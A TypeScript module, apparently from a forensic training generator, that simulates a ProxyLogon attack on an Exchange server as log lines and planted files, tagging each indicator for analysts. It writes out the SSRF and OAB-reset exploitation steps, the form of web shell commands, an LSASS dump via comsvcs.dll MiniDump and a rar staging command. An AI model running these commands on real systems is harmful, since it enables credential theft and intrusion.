import { DAY, HOUR } from './format.js';
import { Rng } from './prng.js';
import { newReq, type EcpEvent, type Mark, type Req } from './request.js';
import type { IndicatorKind } from './truth.js';
import type { HttpErrLine, OabLine } from './traffic.js';
import type { World } from './world.js';
import { decodeShell, proxyLogonDrops } from './webshell-drops.js';
import { oabSettingsText } from './oab-settings.js';

/**
 * The ProxyLogon scenario (CVE-2021-26855 SSRF → CVE-2021-27065 OAB virtual directory reset → web shell → LSASS
 * dump → staging archive), modelled on the real incident extracts (HelseCERT 2021-03, Microsoft Q&A posts):
 * field values, request order, status codes and user agents follow them; IPs, names, canaries and GUIDs are
 * invented (attackers in 203.0.113.0/24 and 198.51.100.0/24).
 */

export interface PlantedFile {
  /** Path relative to the tree root, `/`-separated. */
  rel: string;
  content: Buffer;
  mtime: number;
  kind: IndicatorKind;
  note: string;
  /** For text files: a string on one line that the truth points at. */
  lineValue?: string;
  ip?: string;
}

export interface AttackPlan {
  reqs: Req[];
  oab: OabLine[];
  httpErr: HttpErrLine[];
  files: PlantedFile[];
  exploitIp: string;
  shellIp: string;
  scannerIps: string[];
  failedAttemptIps: string[];
  exploitTime: number;
  shellRel: string;
  shellUrl: string;
  secret: string;
  lsassRel: string;
  archiveRel: string;
  /** When the OAB reset wrote the shell (the shell is usable from then on). */
  resetTime: number;
  shellUa: string;
}

export interface PlanInput {
  world: World;
  rng: Rng;
  /** Start of the exploit chain. */
  exploitTime: number;
  /** Period start (scanner probes never go before it). */
  periodStart: number;
  /** Requests stop before this (the SU install, or the period end). */
  stopBefore: number;
}

const EWS_EXPLOIT_UA = 'ExchangeServicesClient/0.0.0.0';
const PY_UA = 'python-requests/2.25.1';
const NMAP_UA = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';
const SHELL_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36',
  'Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.117 Safari/537.36',
];

function canary(rng: Rng): string {
  return rng.alnum(76, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_') + '.';
}

export function planProxyLogon(input: PlanInput): AttackPlan {
  const { world, rng } = input;
  const host = world.host;
  const exploitIp = `203.0.113.${rng.range(20, 90)}`;
  const shellIp = `198.51.100.${rng.range(100, 180)}`;
  const scannerIps = [`198.51.100.${rng.range(10, 60)}`, `203.0.113.${rng.range(150, 199)}`];
  const failedAttemptIps = [`203.0.113.${rng.range(200, 240)}`, `198.51.100.${rng.range(200, 250)}`, `203.0.113.${rng.range(100, 140)}`];
  const letter = rng.pick([...'abcdefghijklmnopqrstuvwxyz']);
  const shellName = `${rng.alnum(8, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}.aspx`;
  const shellRel = `inetpub/wwwroot/aspnet_client/system_web/${shellName}`;
  const shellUrl = `/aspnet_client/system_web/${shellName}`;
  const shellWin = `C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\${shellName}`;
  const secret = rng.alnum(rng.range(6, 10));
  const urlHost = rng.pick(['f', 'g', 'ffff', 'x']);
  // Shell code stays base64 at rest (antivirus): decoded here, byte for byte the script the reset wrote.
  const script = decodeShell('oabScript', { SECRET: secret }).trimEnd();
  const externalUrl = `http://${urlHost}/${script}`;
  const adminSid = `${host.domainSid}-500`;
  const vdirGuid = host.oabVdirGuid;
  const backend = `${host.fqdn}:444`;

  const reqs: Req[] = [];
  const oab: OabLine[] = [];
  const httpErr: HttpErrLine[] = [];
  const files: PlantedFile[] = [];

  const mark = (kind: IndicatorKind, note: string, extra: Partial<Mark> = {}): Mark => ({ kind, note, ...extra });

  // 1. Scanners, days before: Microsoft's nmap check (GET /owa/auth/x.js with X-BEResource=localhost/...).
  for (const [i, ip] of scannerIps.entries()) {
    const days = i === 0 ? rng.range(3, 5) : rng.range(1, 2);
    const base = Math.max(input.periodStart + HOUR, input.exploitTime - days * DAY + rng.int(12 * HOUR));
    const n = rng.range(1, 3);
    for (let k = 0; k < n; k++) {
      const t = base + k * rng.range(20, 400) * 1000;
      reqs.push(newReq(rng, {
        t, proto: 'Owa', host: rng.chance(0.5) ? host.publicHost : '192.0.2.10', ip, ua: NMAP_UA, stem: '/owa/auth/x.js',
        method: 'GET', status: 500, beStatus: null, authType: '', anchor: 'ServerInfo~localhost/owa/auth/logon.aspx?',
        routingHint: 'X-BEResource-Cookie', dur: rng.range(20, 90), errorCode: 'NegotiateSecurityContext',
        genericErrors: 'Microsoft.Exchange.HttpProxy.HttpProxyException:NegotiateSecurityContext',
        mark: mark('scanner', "Microsoft's nmap ProxyLogon check (ServerInfo~localhost)"),
      }));
      if (k === 0) {
        httpErr.push({
          t: t + rng.range(1000, 4000), clientIp: ip, clientPort: rng.range(40000, 60000), serverPort: 443, version: 'HTTP/1.1',
          method: 'GET', uri: '/owa/auth/x.js', status: '-', siteId: '1', reason: 'Request_Cancelled', queue: 'MSExchangeOWAAppPool',
          mark: { kind: 'scanner', note: 'cancelled /owa/auth/x.js scanner request', value: '/owa/auth/x.js' },
        });
      }
    }
  }

  // Failed attempts (autodiscover-only SSRF, no valid mailbox found) from other IPs, before and after the attack.
  for (const [i, ip] of failedAttemptIps.entries()) {
    const t0 = input.exploitTime + (i - 1) * rng.range(20, 40) * HOUR + rng.int(6 * HOUR);
    if (t0 <= input.periodStart || t0 >= input.stopBefore - HOUR) continue;
    const tag = i === 1 ? 'akak' : 'a';
    const lt = rng.pick([...'abcdefghijklmnopqrstuvwxyz']);
    const n = rng.range(1, 3);
    for (let k = 0; k < n; k++) {
      const t = t0 + k * rng.range(300, 4000);
      const ok = rng.chance(0.6);
      reqs.push(newReq(rng, {
        t, proto: 'Ecp', host: rng.pick([host.publicHost, host.autodiscoverHost, '192.0.2.10']), ip, ua: EWS_EXPLOIT_UA,
        stem: `/ecp/${lt}.js`, method: 'POST', status: ok ? 200 : 500, beStatus: ok ? 200 : null,
        anchor: `ServerInfo~${tag}]@${backend}/autodiscover/autodiscover.xml?#`, routingHint: 'X-BEResource-Cookie',
        dur: rng.range(30, 400), reqBytes: rng.range(340, 420), respBytes: ok ? rng.range(300, 1500) : 0,
        beStem: '/autodiscover/autodiscover.xml', beQuery: '#', errorCode: ok ? '' : 'ServerNotFound',
        mark: mark('ssrf-attempt', 'CVE-2021-26855 attempt that stopped at autodiscover (no valid mailbox)', { backEnd: false }),
      }));
    }
  }

  // 2. The exploit chain (two runs from IP A, like the real extract).
  const anchor = (path: string): string => `ServerInfo~a]@${backend}/${path}#`;
  const runs = [input.exploitTime, input.exploitTime + rng.range(2, 6) * HOUR + rng.int(HOUR)];
  let resetTime = 0;
  let shellWritten = 0;
  for (const [runIndex, start] of runs.entries()) {
    const full = runIndex === 0;
    const urlHost2 = full ? host.publicHost : host.autodiscoverHost;
    const c = canary(rng);
    let t = start;
    const step = (
      ua: string, path: string, status: number, kind: IndicatorKind, note: string, beStem: string, beQuery: string,
      gap: [number, number], ecp?: (reqStart: number) => EcpEvent[],
    ): Req => {
      t += rng.range(gap[0], gap[1]);
      const dur = rng.range(40, 700);
      const r = newReq(rng, {
        t, proto: 'Ecp', host: urlHost2, ip: exploitIp, ua, stem: `/ecp/${letter}.js`, method: 'POST', status, beStatus: status,
        anchor: anchor(path), routingHint: 'X-BEResource-Cookie', dur, reqBytes: rng.range(200, 2400),
        respBytes: rng.range(200, 5000), beStem, beQuery, beUser: '',
        mark: mark(kind, note),
      });
      if (ecp) r.ecp = ecp(t - dur);
      reqs.push(r);
      return r;
    };
    step(EWS_EXPLOIT_UA, 'autodiscover/autodiscover.xml?', 200, 'ssrf-attempt',
      'CVE-2021-26855 chain step 1: autodiscover via X-BEResource cookie (excluded by Test-ProxyLogon as a failed attempt)',
      '/autodiscover/autodiscover.xml', '#', [0, 0]);
    step(PY_UA, 'mapi/emsmdb/?', 200, 'ssrf', 'CVE-2021-26855 SSRF to MAPI (leaks the mailbox SID)', '/mapi/emsmdb/', '#', [800, 2500]);
    step(PY_UA, 'ecp/proxyLogon.ecp?', 241, 'ssrf', 'CVE-2021-26855 SSRF to proxyLogon.ecp (ECP session as administrator, 241)',
      '/ecp/proxyLogon.ecp', '#', [1500, 4000]);
    const ddi = (method: string, schema: string): [string, string] => [
      `ecp/DDI/DDIService.svc/${method}?msExchEcpCanary=${c}&schema=${schema}`,
      `/ecp/DDI/DDIService.svc/${method}?msExchEcpCanary=${c}&schema=${schema}`,
    ];
    const ev = (t0: number, cmd: string, url: string, ex = '', m?: EcpEvent['mark']): EcpEvent => ({ t: t0, sid: adminSid, cmd, url, ex, ...(m ? { mark: m } : {}) });
    {
      const [p, u] = ddi('GetObject', 'OABVirtualDirectory');
      step(PY_UA, p, 200, 'ssrf', 'CVE-2021-26855 SSRF to ECP DDIService GetObject OABVirtualDirectory',
        '/ecp/DDI/DDIService.svc/GetObject', `msExchEcpCanary=${c}&schema=OABVirtualDirectory`, [2000, 6000], (s) => [
          ev(s + rng.range(20, 60), 'Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null', u),
          ev(s + rng.range(100, 180), 'Pipeline.1|Get-MailboxRegionalConfiguration', u),
        ]);
    }
    if (!full) continue;
    {
      const [p, u] = ddi('SetObject', 'OABVirtualDirectory');
      const cmd = `Set-OabVirtualDirectory.ExternalUrl='${externalUrl}'.Identity='${vdirGuid}'`;
      step(PY_UA, p, 200, 'ssrf', 'CVE-2021-26855 SSRF to ECP DDIService SetObject OABVirtualDirectory (ExternalUrl = script)',
        '/ecp/DDI/DDIService.svc/SetObject', `msExchEcpCanary=${c}&schema=OABVirtualDirectory`, [1500, 4000], (s) => [
          ev(s + rng.range(20, 80), cmd, u, '', {
            kind: 'ecp-set-vdir', note: 'CVE-2021-27065: OAB ExternalUrl set to a JScript web shell',
            value: `Set-OabVirtualDirectory.ExternalUrl='${externalUrl}'`,
          }),
          ev(s + rng.range(100, 160), `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${vdirGuid}'`, u),
        ]);
    }
    {
      const [p, u] = ddi('SetObject', 'ResetOABVirtualDirectory');
      const r = step(PY_UA, p, 200, 'oab-reset', 'CVE-2021-27065: ResetOABVirtualDirectory via SSRF writes the shell (200)',
        '/ecp/DDI/DDIService.svc/SetObject', `msExchEcpCanary=${c}&schema=ResetOABVirtualDirectory`, [1500, 4000], (s) => [
          ev(s + rng.range(20, 60), `Get-OABVirtualDirectory.Identity='${vdirGuid}'`, u),
          ev(s + rng.range(100, 200), `Get-ExchangeServer.Identity='${host.name}'`, u),
          ev(s + rng.range(300, 500), `Remove-OABVirtualDirectory.Force=$true.Identity='${host.name}\\OAB (Default Web Site)'`, u, '', {
            kind: 'oab-reset', note: 'CVE-2021-27065: OAB virtual directory removed by the reset',
            value: `Remove-OABVirtualDirectory.Force=$true.Identity='${host.name}\\OAB (Default Web Site)'`,
          }),
          ev(s + rng.range(600, 900),
            `New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='${host.name}'.Role='ClientAccess'.InternalURL='https://${host.fqdn}/OAB'.Path='${host.installPath}FrontEnd\\HttpProxy\\OAB'`,
            u, '', {
              kind: 'oab-reset', note: 'CVE-2021-27065: OAB virtual directory re-created by the reset',
              value: `New-OABVirtualDirectory.WebSiteName='Default Web Site'`,
            }),
        ]);
      r.dur = Math.max(r.dur, 1200);
      resetTime = r.t;
      shellWritten = r.t - rng.range(50, 300);
    }
    {
      const [p, u] = ddi('SetObject', 'OABVirtualDirectory');
      step(PY_UA, p, 200, 'ssrf', 'CVE-2021-26855 SSRF to ECP SetObject OABVirtualDirectory (ExternalUrl cleared)',
        '/ecp/DDI/DDIService.svc/SetObject', `msExchEcpCanary=${c}&schema=OABVirtualDirectory`, [1500, 4000], (s) => [
          ev(s + rng.range(20, 60), `Set-OabVirtualDirectory.ExternalUrl=$null.Identity='${vdirGuid}'`, u,
            `Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on DC01.${host.domain}. ` +
            `The object 'CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=${host.name},CN=Servers,CN=Exchange Administrative Group ` +
            `(FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local' ` +
            `does not exist.\\r\\n\\r\\nThe object does not exist.\\r\\n`),
          ev(s + rng.range(100, 160), `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${vdirGuid}'`, u),
        ]);
    }
  }

  // 4. The OAB generator log records the file written outside ClientAccess\OAB.
  const oabPhrase = `Download failed and temporary file '${shellWin}' needs to be removed`;
  oab.push({
    t: resetTime + rng.range(200, 1500), level: 'Error',
    message: `${oabPhrase}. Error: Access to the path is denied.`,
    mark: { kind: 'oab-write', note: 'CVE-2021-26858: OAB download wrote a file outside ClientAccess\\OAB', value: oabPhrase },
  });

  // 5. The web shell on disk: the OAB virtual directory settings written out by the reset, script in ExternalUrl.
  files.push({
    rel: shellRel, content: Buffer.from(oabSettingsText(world, externalUrl, vdirGuid, shellWritten, rng), 'utf8'),
    mtime: shellWritten, kind: 'webshell-file', note: 'China Chopper-style JScript shell inside the OAB vdir dump (CVE-2021-27065)',
    lineValue: script,
  });

  // Shell use: a check from A right after the reset, then a dozen POSTs from B over hours.
  reqs.push(newReq(rng, {
    t: resetTime + rng.range(15_000, 60_000), proto: null, host: host.publicHost, ip: exploitIp, ua: PY_UA, stem: shellUrl,
    method: 'GET', status: 200, beStatus: null, dur: rng.range(80, 400), respBytes: rng.range(2500, 3500),
    mark: mark('webshell-access', 'first request to the dropped shell (200)'),
  }));
  const dumpDir = rng.pick(['Microsoft\\Diag', 'Microsoft\\Crypto\\Keys', 'Intel\\Logs', 'Package Cache\\tmp']);
  const dumpPid = rng.range(600, 900);
  const commands: (string | null)[] = [
    'whoami', null, 'ipconfig /all', null, `net group "Exchange Trusted Subsystem" /domain`, 'tasklist /fi "imagename eq lsass.exe"',
    `powershell rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${dumpPid} C:\\Windows\\Temp\\lsass.dmp full`, null,
    'dir C:\\Windows\\Temp', `"C:\\Program Files\\WinRAR\\rar.exe" a -m5 -hp${rng.alnum(10)} "C:\\ProgramData\\${dumpDir}\\temp.rar" C:\\Windows\\Temp\\lsass.dmp`,
    null, null,
  ];
  let t = resetTime + rng.range(1, 3) * HOUR + rng.int(HOUR);
  const shellUa = rng.pick(SHELL_UAS);
  let lsassTime = 0;
  let rarTime = 0;
  for (const cmd of commands) {
    t += rng.range(40, 1500) * 1000 + rng.int(1000);
    const js = cmd === null ? '' : `Response.Write(new ActiveXObject("WScript.Shell").Exec("cmd.exe /c ${cmd.replace(/"/g, '\\"')}").StdOut.ReadAll());`;
    const query = cmd === null ? '' : `${secret}=${encodeURIComponent(js).replace(/'/g, '%27')}`;
    const dur = rng.range(90, 2500) + (cmd?.includes('MiniDump') ? 9000 : 0);
    reqs.push(newReq(rng, {
      t, proto: null, host: host.publicHost, ip: shellIp, ua: shellUa, stem: shellUrl, method: 'POST', status: 200, beStatus: null,
      query, dur, reqBytes: rng.range(200, 900), respBytes: rng.range(100, 9000),
      mark: mark('webshell-access', cmd === null ? 'POST to the web shell (command in the body)' : `web shell command: ${cmd}`),
    }));
    if (cmd?.includes('MiniDump')) lsassTime = t + rng.range(2000, 8000);
    if (cmd?.includes('rar.exe')) rarTime = t + rng.range(1000, 5000);
  }

  // 6. Post-exploitation files.
  const lsassRel = 'Windows/Temp/lsass.dmp';
  const dump = Buffer.concat([Buffer.from('MDMP\x93\xa7\x00\x00', 'latin1'), rng.bytes(rng.range(3000, 7000))]);
  files.push({ rel: lsassRel, content: dump, mtime: lsassTime, kind: 'lsass-dump', note: 'LSASS memory dump (comsvcs.dll MiniDump)', ip: shellIp });
  const archiveRel = `ProgramData/${dumpDir.replace(/\\/g, '/')}/temp.rar`;
  const rar = Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), rng.bytes(rng.range(2000, 5000))]);
  files.push({ rel: archiveRel, content: rar, mtime: rarTime, kind: 'archive', note: 'password-protected staging archive of the LSASS dump', ip: shellIp });

  // 7. Further shell drops in the other web folders and their compiled artefacts (webshell-drops.ts).
  files.push(...proxyLogonDrops({ world, rng, resetTime, firstShell: { rel: shellRel, name: shellName }, stopBefore: input.stopBefore, ip: shellIp }));

  reqs.sort((a, b) => a.t - b.t);
  return {
    reqs, oab, httpErr, files, exploitIp, shellIp, scannerIps, failedAttemptIps, exploitTime: input.exploitTime,
    shellRel, shellUrl, secret, lsassRel, archiveRel, resetTime, shellUa,
  };
}


